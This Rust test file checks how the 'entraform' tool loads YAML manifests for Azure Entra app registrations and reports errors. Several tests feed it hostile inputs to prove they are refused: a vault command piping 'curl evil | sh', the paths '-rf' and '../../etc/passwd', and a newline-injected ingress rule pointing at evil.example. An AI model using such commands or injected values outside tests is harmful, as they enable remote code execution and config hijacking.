//! Manifests → desired state: the example manifests load, every error class names
//! file:line:column, the field, what was expected, and the fix.

use std::path::{Path, PathBuf};
use std::process::Command;

use entraform::error::Error;
use entraform::manifest::{self, ManifestError};

const DEFAULTS: &str = include_str!("../../manifests/defaults.yaml");

/// A temp directory with the example defaults and the given manifests.
struct Dir {
    dir: tempfile::TempDir,
}

impl Dir {
    fn new(files: &[(&str, &str)]) -> Self {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("defaults.yaml"), DEFAULTS).unwrap();
        for (name, text) in files {
            std::fs::write(dir.path().join(name), text).unwrap();
        }
        Self { dir }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn write(&self, name: &str, text: &str) {
        std::fs::write(self.path(name), text).unwrap();
    }

    fn load(&self, name: &str) -> Result<entraform::desired::Desired, ManifestError> {
        manifest::load_service(&self.path(name), None)
    }

    /// The error as the CLI prints it: message and hint.
    fn error(&self, name: &str) -> (String, String) {
        let err = self.load(name).expect_err("the manifest must be rejected");
        let err = Error::from(err);
        (err.to_string(), err.hint().unwrap_or_default())
    }
}

const MINIMAL: &str = "service: ledger\ncustomer: axe\nproxy_port: 3161\nreference: frame\n";

fn assert_contains(haystack: &str, needle: &str) {
    assert!(
        haystack.contains(needle),
        "expected {needle:?} in:\n{haystack}"
    );
}

#[test]
fn example_manifests_load() {
    let all = manifest::load_all(Path::new("manifests"), None).unwrap();
    let names: Vec<&str> = all.iter().map(|d| d.service.as_str()).collect();
    assert_eq!(names, ["blueprint", "frame", "hive"]);
    for d in &all {
        assert!(d.warnings.is_empty(), "{}: {:?}", d.service, d.warnings);
        let one = manifest::load_service(&d.source, None).unwrap();
        assert_eq!(&one, d);
    }
    let frame = &all[1];
    assert_eq!(frame.deploy.container_port, 3710, "frame's port override");
    assert_eq!(frame.reference, None);
}

#[test]
fn blueprint_lowers_to_the_seed_values() {
    let d = manifest::load_service(Path::new("manifests/blueprint.yaml"), None).unwrap();
    assert_eq!(
        d.app_id.as_deref(),
        Some("482598f7-540c-462c-9dfd-b957651eb804")
    );
    assert_eq!(d.tenant_id, "122fb574-7efa-476a-95b6-bee81bce2cce");
    assert_eq!(d.unique_name, "axe-blueprint-mcp");
    assert_eq!(d.app.identifier_uri, "https://axe.axelabs.ai/blueprint/mcp");
    assert_eq!(d.secret.env, "AZURE_BLUEPRINT_MCP_CLIENT_SECRET");
    assert_eq!(d.secret.vault_path, "blueprint/axe/mcp-client-secret");
    assert_eq!(d.deploy.proxy_name, "axe-blueprint-mcp-proxy");
    assert_eq!(d.deploy.proxy_port, 3151);
    assert_eq!(
        d.deploy.allowed_hosts.join(","),
        "blueprint-mcp:*,localhost:*,127.0.0.1:*,host.docker.internal:*,axe.axelabs.ai"
    );
    assert_eq!(
        d.deploy.allowed_origins.join(","),
        "https://axe.axelabs.ai,https://claude.ai,https://claude.com"
    );
    insta::assert_yaml_snapshot!("blueprint_desired", d);
}

#[test]
fn minimal_manifest_derives_everything() {
    let dir = Dir::new(&[(
        "ledger.yaml",
        "service: my-books\ncustomer: realchoice\nproxy_port: 3161\n",
    )]);
    std::fs::rename(dir.path("ledger.yaml"), dir.path("my-books.yaml")).unwrap();
    let d = dir.load("my-books.yaml").unwrap();
    assert_eq!(d.display_name, "My-books MCP");
    assert_eq!(d.unique_name, "realchoice-my-books-mcp");
    assert_eq!(
        d.app.identifier_uri,
        "https://realchoice.axelabs.ai/my-books/mcp"
    );
    assert_eq!(d.app.scopes[0].value, "mcp.access");
    assert_eq!(d.app.scopes[0].kind, "User");
    assert_eq!(
        d.app.scopes[0].admin_consent_display_name,
        "Access My-books MCP"
    );
    assert_eq!(d.app.requested_access_token_version, 2);
    assert_eq!(d.app.sign_in_audience, "AzureADMyOrg");
    assert!(d.app.enable_id_token_issuance);
    assert_eq!(d.secret.env, "AZURE_MY_BOOKS_MCP_CLIENT_SECRET");
    assert_eq!(d.secret.vault_path, "my-books/realchoice/mcp-client-secret");
    assert_eq!(d.secret.lifetime_days, 730);
    assert_eq!(d.secret.display_name, "entraform my-books");
    assert_eq!(d.deploy.container_name, "my-books-mcp");
    assert_eq!(d.deploy.container_port, 3000);
    assert_eq!(d.deploy.networks, ["artemis"]);
    assert_eq!(d.deploy.env_file, "/Users/axe/my-books/.env");
    assert_eq!(d.deploy.proxy_dir, "~/.axe/my-books-mcp-proxy");
    assert_eq!(d.consent.len(), 2);
    assert_eq!(d.consent[0].scope, "User.Read");
    assert_eq!(d.consent[1].scope, "mcp.access");
    assert!(matches!(
        d.vault,
        entraform::vault::VaultConfig::Command { .. }
    ));
}

#[test]
fn overrides_replace_derived_values() {
    let dir = Dir::new(&[(
        "ledger.yaml",
        "service: ledger\ncustomer: axe\nproxy_port: 3161\nvault: local\noverrides:\n  scope:\n    value: ledger.read\n  secret_env: LEDGER_SECRET\n  container_port: 8080\n",
    )]);
    dir.write(
        "defaults.yaml",
        &format!("{DEFAULTS}\nvaults:\n  local:\n    backend: dotenv\n    path: .env\n"),
    );
    let d = dir.load("ledger.yaml").unwrap();
    assert_eq!(d.app.scopes[0].value, "ledger.read");
    assert_eq!(d.consent[1].scope, "ledger.read");
    assert_eq!(d.secret.env, "LEDGER_SECRET");
    assert_eq!(d.deploy.container_port, 8080);
    assert!(matches!(
        d.vault,
        entraform::vault::VaultConfig::Dotenv { .. }
    ));
}

// ---- error classes: each names file:line:column, the field, the expectation, and the fix ----

// ---- vaults: declared in defaults.yaml only, chosen by name ----

#[test]
fn a_service_manifest_cannot_declare_a_vault() {
    let dir = Dir::new(&[(
        "ledger.yaml",
        "service: ledger\ncustomer: axe\nproxy_port: 3161\nvault:\n  backend: command\n  push: [sh, -c, \"curl evil | sh\", \"{path}\"]\n",
    )]);
    let (msg, hint) = dir.error("ledger.yaml");
    assert_contains(
        &msg,
        "ledger.yaml:5:3: vault: a vault declaration is refused here",
    );
    assert_contains(
        &msg,
        "a service manifest cannot declare a program to run; declare it in defaults.yaml under vaults: and choose it by name",
    );
    assert_contains(&hint, "`vault: NAME`");
    assert_contains(&hint, "overrides.vault_path");
    // the same for a backend that runs nothing (a path could point anywhere)
    dir.write(
        "ledger.yaml",
        "service: ledger\ncustomer: axe\nproxy_port: 3161\nvault: {backend: file, path: /tmp/x.json}\n",
    );
    let (msg, _) = dir.error("ledger.yaml");
    assert_contains(
        &msg,
        "ledger.yaml:4:8: vault: a vault declaration is refused here",
    );
}

#[test]
fn a_service_manifest_chooses_a_vault_by_name() {
    let dir = Dir::new(&[(
        "ledger.yaml",
        "service: ledger\ncustomer: axe\nproxy_port: 3161\nvault: team-pass\n",
    )]);
    dir.write(
        "defaults.yaml",
        &format!("{DEFAULTS}\nvaults:\n  team-pass:\n    backend: command\n    preset: pass\n"),
    );
    let d = dir.load("ledger.yaml").unwrap();
    let entraform::vault::VaultConfig::Command(c) = &d.vault else {
        panic!("{:?}", d.vault)
    };
    assert_eq!(c.preset, Some(entraform::vault::Preset::Pass));
    assert_eq!(c.effective_push().unwrap()[..2], ["pass", "insert"]);
    // `default` is defaults.yaml's `vault:`
    dir.write("ledger.yaml", &format!("{MINIMAL}vault: default\n"));
    let d = dir.load("ledger.yaml").unwrap();
    assert_eq!(serde_json::to_value(&d.vault).unwrap()["push"][0], "axe");
    // an unknown name, with the names there are
    dir.write("ledger.yaml", &format!("{MINIMAL}vault: team-pas\n"));
    let (msg, hint) = dir.error("ledger.yaml");
    assert_contains(
        &msg,
        "ledger.yaml:5:8: vault: \"team-pas\" is not a vault of defaults.yaml; expected one of: default, team-pass",
    );
    assert_contains(&hint, "did you mean `team-pass`?");
}

#[test]
fn vault_declarations_are_checked_in_defaults() {
    let dir = Dir::new(&[("ledger.yaml", MINIMAL)]);
    dir.write(
        "defaults.yaml",
        &format!(
            "{DEFAULTS}\nvaults:\n  broken:\n    backend: command\n    get: [pass, show, \"{{path}}\"]\n    missing: {{stderr: \"(unclosed\"}}\n    send: [mail, \"{{path}}\"]\n    env: [AZURE_CLIENT_SECRET]\n"
        ),
    );
    let (msg, _) = dir.error("ledger.yaml");
    assert_contains(&msg, "vaults.broken.push: no `push` and no `preset`");
    assert_contains(
        &msg,
        "vaults.broken.missing.stderr: \"(unclosed\" is not a regular expression",
    );
    assert_contains(
        &msg,
        "vaults.broken.send: [\"mail\", \"{path}\"] does not mention {to}",
    );
    assert_contains(
        &msg,
        "vaults.broken.env[0]: \"AZURE_CLIENT_SECRET\": the operator's Azure credentials never reach a vault command",
    );
}

#[test]
fn vault_paths_that_read_as_options_or_climb_are_refused() {
    for (path, why) in [
        ("-rf", "starts with `-`"),
        ("hive/../../etc/passwd", "contains `..`"),
        ("hive/\\u001b[2Jx", "contains a control character"),
    ] {
        let dir = Dir::new(&[(
            "ledger.yaml",
            &format!("{MINIMAL}overrides:\n  vault_path: \"{path}\"\n"),
        )]);
        let (msg, hint) = dir.error("ledger.yaml");
        assert_contains(&msg, "ledger.yaml:6:15: overrides.vault_path:");
        assert_contains(&msg, why);
        assert_contains(&hint, "remove the override");
    }
}

#[test]
fn service_name_with_a_capital_letter() {
    let dir = Dir::new(&[(
        "blueprint.yaml",
        "customer: axe\nservice: BluePrint\nproxy_port: 3161\n",
    )]);
    let (msg, hint) = dir.error("blueprint.yaml");
    assert_contains(
        &msg,
        "blueprint.yaml:2:10: service: \"BluePrint\" is not a valid service name",
    );
    assert_contains(&msg, "expected [a-z][a-z0-9-]{1,30}");
    assert_contains(&msg, "2 | service: BluePrint\n  |          ^^^^^^^^^");
    assert_contains(&hint, "use \"blueprint\"");
}

#[test]
fn tenant_id_that_is_not_a_guid() {
    let dir = Dir::new(&[("ledger.yaml", MINIMAL)]);
    dir.write(
        "defaults.yaml",
        &DEFAULTS.replace(
            "tenant_id: 122fb574-7efa-476a-95b6-bee81bce2cce   # axellc.com",
            "tenant_id: axellc.com",
        ),
    );
    let (msg, hint) = dir.error("ledger.yaml");
    let line = DEFAULTS
        .lines()
        .position(|l| l.contains("# axellc.com"))
        .unwrap()
        + 1;
    assert_contains(
        &msg,
        &format!(
            "defaults.yaml:{line}:16: customers.axe.tenant_id: \"axellc.com\" is not a GUID; expected a tenant id"
        ),
    );
    assert_contains(&hint, "Tenant ID");
}

#[test]
fn http_redirect_uri_that_is_not_localhost() {
    let dir = Dir::new(&[(
        "ledger.yaml",
        &format!(
            "{MINIMAL}overrides:\n  redirect_uris:\n    - http://localhost:8080/cb\n    - http://claude.ai/api/mcp/auth_callback\n"
        ),
    )]);
    let (msg, hint) = dir.error("ledger.yaml");
    assert_contains(
        &msg,
        "ledger.yaml:8:7: overrides.redirect_uris[1]: \"http://claude.ai/api/mcp/auth_callback\" uses http:// on a host that is not localhost; expected https://",
    );
    assert_contains(&hint, "use \"https://claude.ai/api/mcp/auth_callback\"");
    // The same rule guards defaults.yaml.
    let dir = Dir::new(&[("ledger.yaml", MINIMAL)]);
    dir.write(
        "defaults.yaml",
        &DEFAULTS.replace(
            "  - https://claude.com/api/mcp/auth_callback",
            "  - http://claude.com/api/mcp/auth_callback",
        ),
    );
    let (msg, _) = dir.error("ledger.yaml");
    assert_contains(&msg, "defaults.yaml:");
    assert_contains(
        &msg,
        ": redirect_uris[1]: \"http://claude.com/api/mcp/auth_callback\" uses http://",
    );
}

#[test]
fn proxy_port_used_by_another_manifest() {
    let dir = Dir::new(&[
        (
            "blueprint.yaml",
            "service: blueprint\ncustomer: axe\nproxy_port: 3151\nhost_ports: [3152, 3153]\n",
        ),
        (
            "ledger.yaml",
            "service: ledger\ncustomer: axe\nproxy_port: 3152\n",
        ),
    ]);
    let (msg, hint) = dir.error("ledger.yaml");
    assert_contains(
        &msg,
        "ledger.yaml:3:13: proxy_port: 3152 is already used by ",
    );
    assert_contains(&msg, "blueprint.yaml (host_ports of service \"blueprint\")");
    assert_contains(&hint, "use 3161");
    // load_all reports it once, on the later file.
    let err = manifest::load_all(dir.dir.path(), None).unwrap_err();
    assert_eq!(err.diagnostics().len(), 1, "{err}");
    assert_eq!(err.diagnostics()[0].line, Some(3));
}

#[test]
fn service_defined_twice() {
    let dir = Dir::new(&[
        (
            "a.yaml",
            "service: ledger\ncustomer: axe\nproxy_port: 3161\n",
        ),
        (
            "b.yaml",
            "service: ledger\ncustomer: axe\nproxy_port: 3171\n",
        ),
    ]);
    let err = manifest::load_all(dir.dir.path(), None).unwrap_err();
    let msg = err.to_string();
    assert_contains(&msg, "b.yaml:1:10: service: \"ledger\" is also defined in ");
    assert_contains(
        &err.hint().unwrap_or_default(),
        "rename one of the services",
    );
}

#[test]
fn customer_missing_in_defaults() {
    let dir = Dir::new(&[(
        "ledger.yaml",
        "service: ledger\ncustomer: acme\nproxy_port: 3161\n",
    )]);
    let (msg, hint) = dir.error("ledger.yaml");
    assert_contains(
        &msg,
        "ledger.yaml:2:11: customer: \"acme\" is not a customer in ",
    );
    assert_contains(&msg, "expected one of: axe, realchoice");
    assert_contains(&hint, "add `acme:` under `customers:`");
}

#[test]
fn unknown_field_suggests_the_right_one() {
    let dir = Dir::new(&[(
        "ledger.yaml",
        "service: ledger\ncustomer: axe\nproxy_prot: 3161\n",
    )]);
    let (msg, hint) = dir.error("ledger.yaml");
    assert_contains(
        &msg,
        "ledger.yaml:3:1: proxy_prot: unknown field `proxy_prot`",
    );
    assert_contains(&msg, "3 | proxy_prot: 3161\n  | ^^^^^^^^^^");
    assert_contains(&hint, "did you mean `proxy_port`?");
}

#[test]
fn wrong_type_and_missing_field() {
    let dir = Dir::new(&[(
        "ledger.yaml",
        "service: ledger\ncustomer: axe\nproxy_port: many\n",
    )]);
    let (msg, hint) = dir.error("ledger.yaml");
    assert_contains(
        &msg,
        "ledger.yaml:3:13: proxy_port: invalid type: string \"many\", expected u16",
    );
    assert_contains(&hint, "expected type");
    dir.write("ledger.yaml", "service: ledger\nproxy_port: 3161\n");
    let (msg, hint) = dir.error("ledger.yaml");
    assert_contains(&msg, "ledger.yaml:1:1: missing field `customer`");
    assert_contains(&hint, "add `customer:`");
}

#[test]
fn several_problems_are_reported_together() {
    let dir = Dir::new(&[(
        "ledger.yaml",
        "service: Ledger\ncustomer: acme\nproxy_port: 3161\napp_id: 482598f7\n",
    )]);
    let err = dir.load("ledger.yaml").unwrap_err();
    let lines: Vec<Option<usize>> = err.diagnostics().iter().map(|d| d.line).collect();
    assert_eq!(lines, [Some(1), Some(2), Some(4)]);
    let msg = err.to_string();
    assert_contains(&msg, "3 problems in the manifests:");
    assert_contains(&msg, "hint: use \"ledger\"");
    assert_contains(&msg, "app_id: \"482598f7\" is not a GUID");
}

#[test]
fn application_permissions_warn_about_the_wrong_app() {
    let dir = Dir::new(&[(
        "ledger.yaml",
        &format!(
            "{MINIMAL}permissions:\n  - api: microsoft-graph\n    delegated: [Calendars.ReadWrite]\n    application: [Mail.Send]\n"
        ),
    )]);
    let d = dir.load("ledger.yaml").unwrap();
    assert_eq!(d.warnings.len(), 1, "{:?}", d.warnings);
    assert_contains(&d.warnings[0], "Mail.Send");
    assert_contains(&d.warnings[0], "2b222356-1c36-48e0-96a3-2c5e0ecbf937");
    let graph = &d.app.required_resource_access[0];
    let kinds: Vec<(&str, &str)> = graph
        .access
        .iter()
        .map(|a| (a.value.as_str(), a.kind.as_str()))
        .collect();
    assert_eq!(
        kinds,
        [
            ("User.Read", "Scope"),
            ("Calendars.ReadWrite", "Scope"),
            ("Mail.Send", "Role")
        ]
    );
    // Delegated scopes are consented; app roles are not (they are not oauth2PermissionGrants).
    assert_eq!(d.consent[0].scope, "User.Read Calendars.ReadWrite");
}

#[test]
fn unknown_permission_name_asks_for_an_id() {
    let dir = Dir::new(&[(
        "ledger.yaml",
        &format!("{MINIMAL}permissions:\n  - delegated: [Files.Read.Everything]\n"),
    )]);
    let (msg, hint) = dir.error("ledger.yaml");
    assert_contains(
        &msg,
        "ledger.yaml:6:17: permissions[0].delegated[0]: \"Files.Read.Everything\"",
    );
    assert_contains(&hint, "{value: Files.Read.Everything, id: <GUID>}");
}

#[test]
fn defaults_not_found_and_explicit_defaults() {
    let dir = tempfile::tempdir().unwrap();
    let m = dir.path().join("ledger.yaml");
    std::fs::write(&m, MINIMAL).unwrap();
    let err = manifest::load_service(&m, None).unwrap_err();
    assert!(
        matches!(err, ManifestError::DefaultsNotFound { .. }),
        "{err}"
    );
    assert_contains(&err.hint().unwrap(), "--defaults FILE");
    let org = dir.path().join("org.yaml");
    std::fs::write(&org, DEFAULTS).unwrap();
    let d = manifest::load_service(&m, Some(&org)).unwrap();
    assert_eq!(d.customer, "axe");
    // An explicit defaults file inside the directory is not mistaken for a service manifest.
    let all = manifest::load_all(dir.path(), Some(&org)).unwrap();
    assert_eq!(all.len(), 1);
}

#[test]
fn file_name_must_match_the_service_or_warn() {
    let dir = Dir::new(&[("books.yaml", MINIMAL)]);
    let d = dir.load("books.yaml").unwrap();
    assert!(
        d.warnings
            .iter()
            .any(|w| w.contains("name the file ledger.yaml")),
        "{:?}",
        d.warnings
    );
}

#[test]
fn schema_command_prints_both_schemas() {
    let out = Command::new(env!("CARGO_BIN_EXE_entraform"))
        .args(["schema"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let service = &doc["service"];
    assert_eq!(service["additionalProperties"], false);
    let required: Vec<&str> = service["required"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert_eq!(required, ["service", "customer", "proxy_port"]);
    assert!(doc["defaults"]["properties"]["customers"].is_object());
    let out = Command::new(env!("CARGO_BIN_EXE_entraform"))
        .args(["schema", "--kind", "defaults"])
        .output()
        .unwrap();
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["title"], "entraform defaults.yaml");
    // The vault config is part of the schema (command backend with push/get).
    assert!(out.stdout.windows(7).any(|w| w == b"command"));
}

#[test]
fn permission_by_id_for_other_apis() {
    let dir = Dir::new(&[(
        "ledger.yaml",
        &format!(
            "{MINIMAL}permissions:\n  - api: 2b222356-1c36-48e0-96a3-2c5e0ecbf937\n    delegated:\n      - {{value: api.read, id: 11111111-2222-3333-4444-555555555555}}\n"
        ),
    )]);
    let d = dir.load("ledger.yaml").unwrap();
    assert_eq!(d.app.required_resource_access.len(), 2);
    assert_eq!(
        d.app.required_resource_access[1].resource_app_id,
        "2b222356-1c36-48e0-96a3-2c5e0ecbf937"
    );
    assert_eq!(d.consent.len(), 3);
    assert_eq!(d.consent[1].scope, "api.read");
    // A bad id is located on the id.
    dir.write(
        "ledger.yaml",
        &format!("{MINIMAL}permissions:\n  - api: 2b222356-1c36-48e0-96a3-2c5e0ecbf937\n    delegated:\n      - value: api.read\n        id: api-read\n"),
    );
    let (msg, _) = dir.error("ledger.yaml");
    assert_contains(
        &msg,
        "ledger.yaml:9:13: permissions[0].delegated[0].id: \"api-read\" is not a GUID",
    );
    // A misspelt key inside a permission is not silently dropped.
    dir.write(
        "ledger.yaml",
        &format!("{MINIMAL}permissions:\n  - delegated:\n      - {{value: x, idd: 11111111-2222-3333-4444-555555555555}}\n"),
    );
    let (msg, hint) = dir.error("ledger.yaml");
    assert_contains(&msg, "did not match any variant");
    assert_contains(&hint, "{value: <name>, id: <GUID>}");
}

#[test]
fn blue_green_takes_its_ports_from_the_block() {
    let dir = Dir::new(&[(
        "ledger.yaml",
        &format!("{MINIMAL}host_ports: [3162, 3163]\nblue_green: {{ active: green }}\n"),
    )]);
    let d = dir.load("ledger.yaml").unwrap();
    let bg = d.deploy.blue_green.expect("blue/green");
    assert_eq!(
        (bg.active.as_str(), bg.blue_port, bg.green_port),
        ("green", 3162, 3163)
    );
    // Without `blue_green` the single `mcp` service stays.
    let dir = Dir::new(&[("ledger.yaml", MINIMAL)]);
    assert_eq!(dir.load("ledger.yaml").unwrap().deploy.blue_green, None);
}

#[test]
fn blue_green_ports_must_be_reserved_in_host_ports() {
    // Not listed: no other manifest and no `entraform new` would know they are taken.
    let dir = Dir::new(&[(
        "ledger.yaml",
        &format!("{MINIMAL}blue_green: {{ active: blue }}\n"),
    )]);
    let (msg, hint) = dir.error("ledger.yaml");
    assert_contains(
        &msg,
        "ledger.yaml:5:13: blue_green: blue/green runs two containers on host ports 3162 and 3163 (proxy_port + 1 and + 2)",
    );
    assert_contains(&hint, "host_ports: [3162, 3163]");
    // Listed, but other ports.
    let dir = Dir::new(&[(
        "ledger.yaml",
        &format!("{MINIMAL}host_ports: [3170, 3171]\nblue_green: {{ active: blue }}\n"),
    )]);
    let (msg, _) = dir.error("ledger.yaml");
    assert_contains(&msg, "host_ports: blue/green runs two containers");
    assert_contains(&msg, "[3170, 3171]");
    // A colour that is not one.
    let dir = Dir::new(&[(
        "ledger.yaml",
        &format!("{MINIMAL}host_ports: [3162, 3163]\nblue_green: {{ active: purple }}\n"),
    )]);
    let (msg, _) = dir.error("ledger.yaml");
    assert_contains(&msg, "purple");
    assert_contains(&msg, "blue");
}

#[test]
fn a_control_character_in_a_rendered_value_is_refused_by_field() {
    // Issue 10: `tunnel.config` reached a comment line of cloudflared.ingress.yaml unquoted, so
    // a newline in it added ingress rules. Every manifest value is one line of text.
    let dir = Dir::new(&[("ledger.yaml", MINIMAL)]);
    dir.write(
        "defaults.yaml",
        &DEFAULTS.replace(
            "  config: ~/.axe/tunnels/axelabs/config.yml",
            "  config: \"~/.axe/config.yml\\n- hostname: axe.axelabs.ai\\n  service: http://evil.example:80\"",
        ),
    );
    let (msg, hint) = dir.error("ledger.yaml");
    assert_contains(&msg, "tunnel.config: \"~/.axe/config.yml\\n- hostname");
    assert_contains(&msg, "contains a newline; expected one line of text");
    assert_contains(&hint, "rendered files");

    let dir = Dir::new(&[(
        "ledger.yaml",
        &format!(
            "{MINIMAL}overrides:\n  proxy_dir: \"~/.axe/x\\tproxy\"\n  allowed_hosts: [\"a:*\", \"b\\u001b[31m\"]\n"
        ),
    )]);
    let (msg, _) = dir.error("ledger.yaml");
    assert_contains(
        &msg,
        "overrides.proxy_dir: \"~/.axe/x\\tproxy\" contains a tab",
    );
    assert_contains(&msg, "overrides.allowed_hosts[1]");
    assert_contains(&msg, "U+001B");
}

#[test]
fn the_manifest_fuzz_seeds_load_and_render() {
    // The fuzz target's property on stable Rust: a manifest that loads renders (no template
    // filter refuses a value lowering accepted), blue/green included.
    let seeds = Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz/seeds/manifest");
    let defaults = std::fs::read_to_string(seeds.join("defaults.yaml")).unwrap();
    let defaults = defaults.strip_prefix("#defaults\n").unwrap_or(&defaults);
    for name in ["blueprint.yaml", "frame.yaml", "hive.yaml"] {
        let text = std::fs::read_to_string(seeds.join(name)).unwrap();
        let dir = Dir::new(&[(name, &text)]);
        dir.write("defaults.yaml", defaults);
        let d = dir.load(name).unwrap_or_else(|e| panic!("{name}: {e}"));
        entraform::render::render_all(&d, None, None).unwrap_or_else(|e| panic!("{name}: {e}"));
    }
}
